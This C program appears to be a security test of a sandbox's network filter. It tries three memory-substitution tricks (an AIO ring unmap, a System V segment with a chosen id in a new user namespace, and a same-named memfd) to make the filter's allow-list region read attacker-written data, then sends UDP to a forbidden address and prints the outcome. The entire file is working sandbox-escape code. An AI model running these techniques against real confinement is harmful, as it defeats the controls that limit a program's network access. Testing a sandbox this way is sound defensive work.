/*
 * Has the kernel itself put other memory in the place of the vault, without a call about that place: vault-place HOW ALLOWED FORBIDDEN PORT
 *
 * Then sends more to ALLOWED, which must be this machine's own, than the supervisor sends itself: were the vault taken to be there, the
 * kernel would read FORBIDDEN from memory that this program writes.
 *
 *   ring      io_destroy(2) unmaps the whole length of an io_setup(2) ring from where one page of it was moved: just below the vault
 *   segment   a System V segment with the vault's inode as its identifier, read-only, which shmat(2) puts there for want of other room:
 *             in a namespace of its own, where whoever is its root chooses identifiers
 *   named     a memfd of the vault's name, mapped read-only there in the same way
 *
 * stdout: what became of the last call; before it a line where the way itself failed.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { MANY = 20000, RING = 30000, PAGE = 4096, LINES = 1000 };
#define VAULT (0x552aul << 32)
#define VAULT_BYTES (4ul << 20)
#define END 0x7ffffffff000ul

static char content[MANY], line[1024];
static struct sockaddr_in allowed, forbidden;

static const char *send_much(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	int error = sendto(fd, content, sizeof content, 0, (struct sockaddr *)&allowed, sizeof allowed) < 0 ? errno : 0;
	close(fd);
	return error ? strerrorname_np(error) : "sent";
}

static void fill(struct sockaddr_in *from, size_t bytes)
{
	for (size_t i = 0; i < bytes / sizeof forbidden; i++)
		from[i] = forbidden;
}

static int failed(const char *what)
{
	printf("%s: %s\n", what, strerrorname_np(errno));
	return -1;
}

static int ring(void)
{
	unsigned long ring = 0;
	send_much(); /* brings the vault */
	if (syscall(SYS_io_setup, RING, &ring) < 0)
		return failed("io_setup");
	if (mremap((void *)ring, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)(VAULT - PAGE)) == MAP_FAILED)
		return failed("mremap");
	if (syscall(SYS_io_destroy, VAULT - PAGE) < 0)
		return failed("io_destroy");
	int id = shmget(IPC_PRIVATE, VAULT_BYTES / 4, IPC_CREAT | 0600);
	void *memory = shmat(id, (void *)(VAULT - PAGE), 0);
	shmctl(id, IPC_RMID, NULL);
	if (memory == (void *)-1)
		return failed("shmat");
	fill(memory, VAULT_BYTES / 4);
	return 0;
}

/* Of a child's vault, by its own maps. */
static unsigned long inode_of_the_vault(void)
{
	int ends[2];
	unsigned long inode = 0;
	if (pipe(ends) < 0)
		return 0;
	if (fork() == 0) {
		send_much();
		FILE *maps = fopen("/proc/self/maps", "r");
		while (fgets(line, sizeof line, maps))
			if (strstr(line, "memfd:secfilt"))
				sscanf(line, "%*s %*s %*s %*s %lu", &inode);
		_exit(write(ends[1], &inode, sizeof inode) != sizeof inode);
	}
	close(ends[1]);
	if (read(ends[0], &inode, sizeof inode) != sizeof inode)
		inode = 0;
	wait(NULL);
	return inode;
}

static void leave_room_for_the_vault_alone(void)
{
	static unsigned long from[LINES], to[LINES];
	int lines = 0;
	FILE *maps = fopen("/proc/self/maps", "r");
	while (lines < LINES && fgets(line, sizeof line, maps))
		lines += sscanf(line, "%lx-%lx", &from[lines], &to[lines]) == 2;
	fclose(maps);
	from[lines] = END;
	unsigned long at = VAULT + VAULT_BYTES;
	for (int i = 0; i <= lines && at < END; i++)
		if (from[i] > at || to[i] > at) {
			unsigned long end = from[i] < END ? from[i] : END;
			if (end > at)
				mmap((void *)at, end - at, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE | MAP_FIXED_NOREPLACE, -1, 0);
			at = to[i];
		}
}

static int segment(void)
{
	unsigned long inode = inode_of_the_vault();
	if (inode == 0 || unshare(CLONE_NEWUSER | CLONE_NEWIPC) < 0)
		return failed("unshare");
	int next = open("/proc/sys/kernel/shm_next_id", O_WRONLY);
	if (dprintf(next, "%lu", inode) < 0)
		return failed("shm_next_id");
	int id = shmget(IPC_PRIVATE, VAULT_BYTES, IPC_CREAT | 0600);
	if (id < 0 || (unsigned long)id != inode)
		return failed("shmget");
	void *memory = shmat(id, NULL, 0);
	leave_room_for_the_vault_alone();
	void *there = shmat(id, NULL, SHM_RDONLY);
	shmctl(id, IPC_RMID, NULL);
	if (there != (void *)VAULT)
		return failed("shmat");
	fill(memory, VAULT_BYTES);
	return 0;
}

static int named(void)
{
	int fd = memfd_create("secfilt", MFD_CLOEXEC);
	if (ftruncate(fd, VAULT_BYTES) < 0)
		return failed("ftruncate");
	void *memory = mmap(NULL, VAULT_BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	leave_room_for_the_vault_alone();
	void *there = mmap(NULL, VAULT_BYTES, PROT_READ, MAP_SHARED, fd, 0);
	if (there != (void *)VAULT)
		return failed("mmap");
	fill(memory, VAULT_BYTES);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc != 5)
		return 2;
	allowed.sin_family = AF_INET;
	allowed.sin_port = htons(atoi(argv[4]));
	forbidden = allowed;
	inet_pton(AF_INET, argv[2], &allowed.sin_addr);
	inet_pton(AF_INET, argv[3], &forbidden.sin_addr);
	strcpy(content, argv[1]);
	if (!strcmp(argv[1], "ring"))
		ring();
	else if (!strcmp(argv[1], "named"))
		named();
	else
		segment();
	printf("%s\n", send_much());
	return 0;
}
